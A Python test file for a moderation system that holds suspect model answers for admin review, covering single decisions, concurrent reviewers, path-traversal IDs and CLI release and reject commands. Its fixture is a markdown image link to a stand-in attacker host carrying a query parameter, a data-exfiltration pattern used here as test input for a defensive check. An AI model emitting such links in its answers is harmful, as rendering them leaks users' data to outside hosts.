"""Held answers: kept privately, decided once, and the commands and verbs that review them."""

import json
import threading
from pathlib import Path

import pytest
from calls import hook
from click.testing import CliRunner

import workbench as wb
from workbench import layout
from workbench.cli.app import cli
from workbench.controls.moderation import Moderation
from workbench.errors import ConfigError, ModerationError, NotFoundError, RefusedError, UnavailableError
from workbench.models import ModelCard
from workbench.moderation.held import HeldAnswers
from workbench.records.tape import Tape
from workbench.testing.fakes import FakeModel
from workbench.workspace.boundary import Boundary, StatePaths

ROOT = Path(__file__).resolve().parents[3]
LINK = "See ![x](https://evil.example/?q=1)"


@pytest.fixture
def held(tmp_path):
    return HeldAnswers(folder=tmp_path / layout.HELD)


def kept(held, **more):
    facts = {
        "at": "2026-11-30T10:00:00+00:00", "use_case": "answers", "tenant": "acme", "principal": "ada",
        "target": "m", "operation": "chat", "trace_id": "t", "check": "exfiltration", "text": LINK,
    }  # fmt: skip
    return held.keep(request={"messages": []}, answer={"choices": []}, **{**facts, **more})


def decided(held, answer, state="released", reason="fine"):
    return held.decide(answer.id, state, by="bob", reason=reason, at="2026-11-30T11:00:00+00:00")


def test_an_answer_is_decided_once(held):
    answer = kept(held)
    assert decided(held, answer).state == "released" and held.get(answer.id).text == LINK
    with pytest.raises(RefusedError, match="released by bob"):
        decided(held, answer, "rejected")


def test_a_rejected_answer_loses_its_texts(held):
    answer = kept(held)
    decided(held, answer, "rejected")
    (path,) = held.folder.glob("*.json")
    assert "evil" not in path.read_text() and held.get(answer.id).reason == "fine"
    assert path.stat().st_mode & 0o077 == 0


def test_two_reviewers_at_once_are_one_decision(held):
    answer, ends = kept(held), []

    def decide(state):
        try:
            ends.append(decided(held, answer, state).state)
        except RefusedError:
            ends.append("refused")

    threads = [threading.Thread(target=decide, args=(state,)) for state in ("released", "rejected") * 4]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert ends.count("refused") == 7 and held.get(answer.id).state in ends


@pytest.mark.parametrize("name", ["", "0", "../../params", "0" * 16, "x" * 300])
def test_an_unknown_id_is_named_and_no_other_file_is_read(held, name):
    kept(held)
    with pytest.raises(NotFoundError, match="no held answer"):
        held.get(name)


def test_a_decision_needs_a_reason(held):
    with pytest.raises(ConfigError, match="reason"):
        decided(held, kept(held), reason=" ")


def test_a_damaged_file_is_named(held):
    answer = kept(held)
    (held.folder / f"{answer.id}.json").write_text("{")
    with pytest.raises(ConfigError, match=answer.id):
        list(held.all())


def test_an_answer_that_cannot_be_written_is_not_given(tmp_path):
    (tmp_path / "held").write_text("a file where a folder belongs")
    with pytest.raises(UnavailableError):
        kept(HeldAnswers(folder=tmp_path / "held"))


@pytest.fixture
def ws(tmp_path, monkeypatch):
    for name in ("pipelines", "notebooks", "data"):
        (tmp_path / name).symlink_to(ROOT / name)
    (tmp_path / "params.yaml").write_text((ROOT / "params.yaml").read_text())
    monkeypatch.chdir(tmp_path)
    boundary = Boundary(
        tmp_path, mode="live", tape=Tape(tmp_path / "t"),
        cards=[ModelCard.unsaved("m")], places=StatePaths(home=tmp_path, moderating=Always(tmp_path)),
    )  # fmt: skip
    boundary._models["m"] = FakeModel(lambda _: LINK)
    return wb.connect("answers", root=tmp_path, through=boundary)


class Always:
    """Holds each answer with a link that carries data."""

    def __init__(self, root):
        self.root = root

    def control(self, card, handler):
        hooks = [hook("exfiltration", "out", "hold")]
        return {"moderation": Moderation(hooks, held=HeldAnswers(folder=self.root / layout.HELD))}


def run(*arguments, code=0):
    done = CliRunner().invoke(cli, ["moderation", *arguments])
    if isinstance(done.exception, Exception) and not isinstance(done.exception, SystemExit):
        raise done.exception
    assert done.exit_code == code, done.output
    return done.stdout


def test_a_reviewer_releases_and_the_caller_reads(ws):
    with pytest.raises(ModerationError) as caught:
        ws.model("m").chat("a taxi?")
    name = caught.value.held
    assert ws.released(name) is None
    (row,) = json.loads(run("held", "--json"))
    assert (row["id"], row["tenant"], row["check"], row["state"]) == (name, "acme", "exfiltration", "waiting")
    assert name in run("held") and "evil" not in run("held") and "evil" in run("held", name)
    assert name in run("release", name, "--reason", "a link of ours")
    assert ws.released(name) == LINK and "no answer waits" in run("held") and name in run("held", "--all")
    with pytest.raises(NotFoundError):
        ws.bind(tenant="globex").released(name)


def test_a_rejected_answer_is_refused_to_the_caller(ws):
    with pytest.raises(ModerationError) as caught:
        ws.model("m").chat("a taxi?")
    run("reject", caught.value.held, "--reason", "it carries data")
    with pytest.raises(RefusedError, match="carries data"):
        ws.released(caught.value.held)


def test_only_an_admin_reviews(ws):
    with pytest.raises(ModerationError) as caught:
        ws.model("m").chat("a taxi?")
    params = ws.root / "params.yaml"
    params.write_text(
        params.read_text().replace(
            "    groups: [everyone, people", "    admins: [nobody]\n    groups: [everyone, people"
        )
    )
    assert json.loads(run("held", "--json")) == []
    with pytest.raises(RefusedError, match="admin"):
        run("release", caught.value.held, "--reason", "mine")
